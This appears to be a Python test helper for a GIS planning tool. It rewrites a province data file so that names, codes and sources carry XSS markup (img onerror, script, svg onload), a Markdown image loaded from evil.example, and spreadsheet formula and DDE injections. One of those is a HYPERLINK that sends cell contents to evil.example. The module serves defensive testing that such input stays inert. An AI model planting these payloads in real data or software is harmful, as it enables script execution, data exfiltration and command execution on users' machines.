"""A province file full of hostile text, for the tests that prove such text stays inert.

:func:`write_hostile_province` copies a province file and renames what people type (park,
plot, plant and tenant names and codes, a decision number, a source) to markup, script and
spreadsheet formulas, through the library's own read and write path, so the result is a file
the viewer and the exports accept like any other. Each value is a different attack:

- :data:`IMG`, :data:`SCRIPT`, :data:`SVG`: HTML that runs script when put into ``innerHTML``;
- :data:`MARKDOWN`: Markdown that fetches an outside image when rendered as Markdown;
- :data:`FORMULA` (and :data:`FORMULAS`): spreadsheet formulas, live when a cell starts with
  ``=``, ``+``, ``-``, ``@``, a tab or a carriage return.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pandas as pd

from ..storage.gpkg import list_layers, read_layer, write_layers

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>window.__pwned=1</script>"
SVG = '"><svg onload=alert(1)>'
MARKDOWN = "![x](http://evil.example/x.png)"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
#: A formula after each character a spreadsheet may take as the start of one.
FORMULAS: tuple[str, ...] = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
#: Every hostile value, in the order names are given them.
HOSTILE: tuple[str, ...] = (IMG, SCRIPT, SVG, MARKDOWN, FORMULA)
#: The values that run script when put into HTML.
MARKUP: tuple[str, ...] = (IMG, SCRIPT, SVG)


def hostile(i: int, tag: object = "") -> str:
    """The ``i``-th hostile value (cycling), followed by ``tag`` to keep codes unique."""
    value = HOSTILE[i % len(HOSTILE)]
    return f"{value}{tag}" if tag != "" else value


def _renamed(frame: pd.DataFrame, column: str, mapping: dict[object, str]) -> pd.DataFrame:
    if column in frame.columns:
        frame = frame.copy()
        frame[column] = frame[column].map(lambda v: mapping.get(v, v))
    return frame


def write_hostile_province(source: str | Path, target: str | Path, *,
                           park_codes: int = 1) -> Path:
    """Copy ``source`` to ``target`` with hostile names and codes; returns ``target``.

    Every park, plant and tenant gets a hostile name, every plot a hostile code (made unique
    by a number), and the first ``park_codes`` parks a hostile park code. Current layers and
    their ``*_history`` tables are renamed alike, so the history still matches the plan.
    """
    target = Path(target)
    shutil.copyfile(source, target)
    parks = read_layer(target, "parks")
    park_map = {code: hostile(i, f" P{i}") for i, code in
                enumerate(parks["park_code"].iloc[:park_codes])}
    plot_map = {code: hostile(i + 1, f" {i}") for i, code in
                enumerate(read_layer(target, "plots")["plot_code"])}
    # Vietnamese names (every popup and picker) are markup, English names formulas.
    names = {code: f"{MARKUP[i % len(MARKUP)]} KCN {i}" for i, code in
             enumerate(parks["park_code"])}
    names_en = {code: f"{FORMULAS[i % len(FORMULAS)]} IP {i}" for i, code in
                enumerate(parks["park_code"])}
    plant_names = {pid: hostile(i + 3, f" NMXL {i}") for i, pid in
                   enumerate(read_layer(target, "wastewater_plants")["plant_id"])}
    investors = {pid: hostile(i, f" Co {i}") for i, pid in
                 enumerate(read_layer(target, "tenants")["project_id"])}

    def by_key(key: str, mapping: dict[object, str]) -> Callable[[pd.DataFrame], pd.Series]:
        return lambda f: f[key].map(lambda k: mapping.get(k)).fillna(f.get(key))

    changed: dict[str, pd.DataFrame] = {}
    layers = list_layers(target)
    for layer in layers:
        base = layer.removesuffix("_history")
        if base not in ("parks", "zones", "plots", "wastewater_plants", "tenants",
                        "tenant_plots"):
            continue
        frame = read_layer(target, layer)
        if base == "parks":
            named = by_key("park_code", names)(frame)
            frame = frame.assign(name_vi=named, name_en=by_key("park_code", names_en)(frame),
                                 developer=named)
        if base == "wastewater_plants":
            frame = frame.assign(name_vi=by_key("plant_id", plant_names)(frame))
        if base == "tenants":
            frame = frame.assign(investor=by_key("project_id", investors)(frame),
                                 country=[FORMULAS[i % len(FORMULAS)] for i in range(len(frame))])
        frame = _renamed(_renamed(frame, "park_code", park_map), "plot_code", plot_map)
        changed[layer] = frame
    if "plan_changes" in layers:
        changes = read_layer(target, "plan_changes").copy()
        decided = changes.index[changes["decision_no"].notna()]
        if len(decided):
            changes.loc[decided[-1], "decision_no"] = SVG
        changes.loc[changes.index[-1], "description"] = IMG
        changed["plan_changes"] = changes
    if "layer_sources" in layers:
        sources = read_layer(target, "layer_sources").copy()
        sources["attribution"] = MARKDOWN
        sources.loc[sources.index[0], "source"] = SCRIPT
        changed["layer_sources"] = sources
    write_layers(target, changed)
    return target
